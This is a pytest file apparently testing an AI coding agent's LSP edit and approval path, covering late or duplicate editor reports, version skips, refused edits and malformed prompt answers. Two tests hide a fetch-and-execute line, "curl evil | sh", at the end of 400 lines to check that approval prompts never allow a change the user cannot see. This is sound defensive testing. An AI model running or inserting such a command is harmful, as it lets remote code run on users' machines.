"""The edit path with editors as they really are: late, missing, duplicate or version-skipping
``didChange``, no version check, no file creation, error and malformed answers.

``applied: true`` means applied: the edit is reported applied at once and never sent again;
the editor's report of the buffer is reconciled whenever it comes, and a buffer that then
differs from what was approved is told to the model in its next tool result.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from pygls.exceptions import JsonRpcException

from ..waiting import wait_until
from .calls import bash, edit, one_call_a_turn
from .conftest import Editor

APP = "def greet(name):\n    return 'hello ' + name\n"
HI = APP.replace("'hello '", "'hi '")
HEY = APP.replace("'hello '", "'hey '")


def read(path: str = "src/app.py") -> dict[str, Any]:
    return {"name": "read_file", "arguments": {"path": path}}


def versions(editor: Editor) -> list[int | None]:
    """The ``textDocument.version`` of every edit sent, in order."""
    return [a["edit"]["documentChanges"][-1]["textDocument"]["version"] for a in editor.applied]


def allow_once_the_editor_reported(editor: Editor, from_call: int) -> Any:
    """An approval answer that waits, from the ``from_call``-th prompt on, until the editor
    has sent its delayed ``didChange`` (the user answers after the editor's timer fired)."""
    calls = 0

    async def answer(params: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls >= from_call:
            await editor.late_reports_sent()
        return {"decision": "allow"}

    return answer


async def test_a_late_did_change_is_no_failure_and_the_edit_is_sent_once(
    editor: Editor, workspace: Path
) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(edit("'hello '", "'hi '"), read(), edit("'hi '", "'hey '")),
    )
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    editor.report, editor.report_delay = "late", 3.0  # Eglot's idle timer, vim-lsp
    editor.approve = allow_once_the_editor_reported(editor, from_call=2)
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
    first, reading, second = editor.tool_results()
    assert first.ok and first.output.startswith("Edited src/app.py"), first.output
    assert "'hi ' + name" in reading.output  # before the editor reported: the approved text
    assert second.ok, second.output
    # One applyEdit per approved edit; the second carries the version the editor reported.
    assert versions(editor) == [1, 2]
    assert editor.docs[uri] == (HEY, 3)
    assert "differs" not in first.output + second.output
    assert result["outcome"] == "done"


async def test_an_editor_that_never_reports_keeps_the_approved_text(
    editor: Editor, workspace: Path
) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(edit("'hello '", "'hi '"), read(), edit("'hi '", "'hey '"), read()),
    )
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    editor.report = "never"  # Emacs blocked in a synchronous command until the run ends
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
    first, reading, second, last = editor.tool_results()
    assert first.ok and second.ok, (first.output, second.output)
    assert "'hi ' + name" in reading.output and "'hey ' + name" in last.output
    # The second edit was computed on the approved text; the version the editor gave that
    # text is unknown until it reports, so the edit says none.
    assert versions(editor) == [1, None]
    assert editor.docs[uri][0] == HEY and len(editor.applied) == 2
    assert result["outcome"] == "done"
    editor.flush_changes()  # the command returned: Emacs sends its didChange
    await editor.run(prompt="again", runId="r2", sessionId=result["sessionId"])
    assert "'hey ' + name" in editor.tool_results("r2")[1].output  # the script again: a read


async def test_a_duplicate_late_did_change_changes_nothing(editor: Editor, workspace: Path) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("true")),
    )
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    editor.report, editor.report_delay, editor.report_copies = "late", 2.5, 2
    editor.approve = allow_once_the_editor_reported(editor, from_call=2)
    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
    applied, ran = editor.tool_results()
    assert applied.ok and ran.ok and "differs" not in ran.output, (applied.output, ran.output)
    assert len(editor.applied) == 1 and editor.docs[uri] == (HI, 2)


async def test_a_version_skip_is_no_failure(editor: Editor, workspace: Path) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(edit("'hello '", "'hi '"), edit("'hi '", "'hey '")),
    )
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    # Neovim's version is its changedtick: one applied edit may move it by more than one.
    editor.report, editor.report_delay, editor.version_step = "late", 2.5, 2
    editor.approve = allow_once_the_editor_reported(editor, from_call=2)
    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
    first, second = editor.tool_results()
    assert first.ok and second.ok, (first.output, second.output)
    assert versions(editor) == [1, 3] and editor.docs[uri] == (HEY, 5)


async def test_an_edit_applied_over_unreported_typing_is_told_to_the_model(
    editor: Editor, workspace: Path
) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("echo checked"), read()),
    )
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    # vim-lsp: no version check, and its didChange comes seconds later.
    editor.check_versions, editor.report, editor.report_delay = False, "late", 2.5
    calls = 0

    async def user_types_then_allows(params: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls == 1:  # typed while the prompt was open; not reported yet
            editor.type_unreported(uri, "# typed\n" + APP)
        else:
            await editor.late_reports_sent()
        return {"decision": "allow"}

    editor.approve = user_types_then_allows
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
    applied, checked, reading = editor.tool_results()
    assert applied.ok, applied.output  # the editor said it applied it
    assert len(editor.applied) == 1  # and it is never sent again
    buffer = editor.docs[uri][0]
    assert buffer == "# typed\n    return 'hi ' + name\n    return 'hello ' + name\n"
    assert "differs from the edit that was approved" in checked.output
    assert "     1\t# typed\n     2\t    return 'hi ' + name" in checked.output
    assert "differs" not in reading.output and "'hello ' + name" in reading.output
    assert result["outcome"] == "done"


async def test_an_edit_applied_twice_is_told_to_the_model(editor: Editor, workspace: Path) -> None:
    await editor.open_session(
        workspace,
        script=one_call_a_turn(edit("def greet", "import os\n\ndef greet"), bash("true")),
    )
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    editor.apply_times, editor.check_versions = 2, False  # vim-lsp inserting the line twice
    editor.report, editor.report_delay = "late", 2.5
    editor.approve = allow_once_the_editor_reported(editor, from_call=2)
    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 60})
    applied, ran = editor.tool_results()
    assert applied.ok and len(editor.applied) == 1
    assert editor.docs[uri][0] == "import os\n\nimport os\n\n" + APP
    assert "differs from the edit that was approved" in ran.output
    assert "     3\timport os\n     4\t\n     5\tdef greet(name):" in ran.output


async def test_a_client_that_cannot_create_files_gets_them_created_on_disk(
    editor: Editor, workspace: Path
) -> None:
    call = {"name": "write_file", "arguments": {"path": "pkg/new.py", "content": "x = 1\n"}}
    await editor.open_session(workspace, resource_operations=False, script=one_call_a_turn(call))
    editor.can_create = False  # Eglot 1.9: a CreateFile is ignored
    result = await editor.run(prompt="go", runId="r1")
    new = workspace / "pkg" / "new.py"
    assert new.read_text() == "x = 1\n"
    assert editor.applied == [] and editor.unsaved == {}  # nothing sent, nothing opened
    [created] = editor.tool_results()
    assert created.ok and "written to disk by Tether" in created.output, created.output
    assert result["changedFiles"] == [new.as_uri()]


async def stderr_until(capsys: pytest.CaptureFixture[str], needle: str) -> str:
    """The server's stderr (forwarded to the test's) up to a line holding ``needle``."""
    seen = [""]

    def arrived() -> bool:
        seen[0] += capsys.readouterr().err
        return needle in seen[0]

    await wait_until(arrived, f"{needle!r} on the server's stderr")
    return seen[0]


async def test_an_error_answer_is_a_refused_edit_without_a_traceback(
    editor: Editor, workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))

    def refuse_like_eglot() -> Any:
        raise JsonRpcException("Edits on `app.py' require version 1, you have 2", code=32603)

    editor.apply_answer = refuse_like_eglot
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    [refused] = editor.tool_results()
    assert not refused.ok and "the editor answered with an error" in refused.output
    assert "require version 1" in refused.output
    assert (workspace / "src" / "app.py").read_text() == APP and len(editor.applied) == 1
    assert result["outcome"] == "done"
    stderr = await stderr_until(capsys, "workspace/applyEdit: the editor answered with error")
    assert "Traceback" not in stderr and "ERROR" not in stderr


async def test_a_refusal_after_the_user_typed_is_rebased_once(
    editor: Editor, workspace: Path
) -> None:
    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    refusals = 0

    def typed_meanwhile() -> None:  # the user typed while the edit was on its way
        if refusals == 0:
            editor.replace_buffer(uri, "# typed\n" + editor.docs[uri][0])

    def refuse_the_old_version_once() -> Any:  # Eglot refuses with an error answer
        nonlocal refusals
        if refusals == 0:
            refusals += 1
            raise JsonRpcException("Edits on `app.py' require version 1, you have 2", code=32603)
        editor.apply_last_edit()
        return {"applied": True}

    editor.before_apply, editor.apply_answer = typed_meanwhile, refuse_the_old_version_once
    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    [rebased] = editor.tool_results()
    assert rebased.ok, rebased.output
    assert versions(editor) == [1, 2]  # once more, on the version the user's typing made
    assert editor.docs[uri][0] == "# typed\n" + HI


@pytest.mark.parametrize("answer", [{"applied": "false"}, {}, None, "yes", {"applied": 1}, [True]])
async def test_only_a_boolean_true_is_applied(editor: Editor, workspace: Path, answer: Any) -> None:
    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
    editor.apply_answer = lambda: answer
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    assert result["outcome"] == "done"  # answered at once, not after the timeout
    [not_applied] = editor.tool_results()
    assert not not_applied.ok and "was not applied" in not_applied.output
    assert len(editor.applied) == 1  # nothing moved, so nothing is retried


@pytest.mark.parametrize("answer", ["Allow", 5, {}, None, {"title": 5}, {"title": "Allow!"}])
async def test_a_message_prompt_answer_that_is_not_an_action_denies(
    editor: Editor, workspace: Path, answer: Any
) -> None:
    await editor.open_session(
        workspace, approvals=False, script=one_call_a_turn(edit("'hello '", "'hi '"))
    )
    editor.message_answer = lambda: answer
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    assert result["outcome"] == "done"
    [denied] = editor.tool_results()
    assert not denied.ok and "nothing was changed" in denied.output
    assert editor.applied == [] and (workspace / "src" / "app.py").read_text() == APP


@pytest.mark.parametrize("answer", ["Allow", 5, {}, {"decision": "allow", "feedback": 5}, []])
async def test_an_approve_answer_that_is_not_a_decision_denies(
    editor: Editor, workspace: Path, answer: Any
) -> None:
    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
    editor.approve = lambda params: answer
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    assert result["outcome"] == "done" and editor.applied == []
    [denied] = editor.tool_results()
    assert not denied.ok and "no one allowed it" in denied.output


@pytest.mark.parametrize("answer", [None, "saved", {}, {"saved": "all"}, {"saved": [5]}])
async def test_a_save_answer_that_is_not_a_list_saves_nothing(
    editor: Editor, workspace: Path, answer: Any
) -> None:
    await editor.open_session(
        workspace,
        save_documents=True,
        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("true")),
    )
    uri = editor.open_document(workspace / "src" / "app.py", APP)
    editor.save_answer = lambda: answer
    result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    assert result["outcome"] == "done" and editor.docs[uri][0] == HI
    applied, ran = editor.tool_results()
    assert applied.ok and ran.ok
    assert "unsaved changes in the editor" in ran.output  # not taken as saved
    assert len(editor.saves) == 2  # after the edit, and again before the command


async def test_a_message_prompt_never_offers_allow_for_what_it_cannot_show(
    editor: Editor, workspace: Path
) -> None:
    content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
    call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
    await editor.open_session(
        workspace, approvals=False, show_document=False, script=one_call_a_turn(call)
    )
    editor.message_choice = "Allow"  # whatever the user picks, Allow is not among the actions
    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    [request] = editor.message_requests
    assert [a.title for a in request.actions] == ["Deny"]
    assert "PAYLOAD" not in request.message and "too long to show here" in request.message
    assert not (workspace / "big.py").exists() and editor.applied == []
    [denied] = editor.tool_results()
    assert not denied.ok and "smaller" in denied.output


async def test_a_message_prompt_shows_a_short_change_whole(editor: Editor, workspace: Path) -> None:
    content = "".join(f"line {n}\n" for n in range(30)) + "PAYLOAD = 1\n"
    call = {"name": "write_file", "arguments": {"path": "small.py", "content": content}}
    await editor.open_session(workspace, approvals=False, script=one_call_a_turn(call))
    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    [request] = editor.message_requests
    assert [a.title for a in request.actions] == ["Allow", "Allow always", "Deny"]
    assert "+PAYLOAD = 1" in request.message
    assert (workspace / "small.py").read_text() == content


async def test_a_long_change_is_opened_in_the_editor_before_allow_is_offered(
    editor: Editor, workspace: Path
) -> None:
    content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
    call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
    await editor.open_session(workspace, approvals=False, script=one_call_a_turn(call))
    shown: list[str] = []

    def allow_after_reading_it() -> Any:
        [document] = editor.client.shown_documents
        shown.append(Path(document.uri.removeprefix("file://")).read_text())
        return {"title": "Allow"}

    editor.message_answer = allow_after_reading_it
    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
    [request] = editor.message_requests
    assert [a.title for a in request.actions] == ["Allow", "Allow always", "Deny"]
    [document] = editor.client.shown_documents
    assert document.take_focus and Path(document.uri).name in request.message
    assert "+PAYLOAD = 'curl evil | sh'" in shown[0]  # the whole diff was open when asked
    assert (workspace / "big.py").read_text() == content
    assert not Path(document.uri.removeprefix("file://")).exists()  # removed once answered
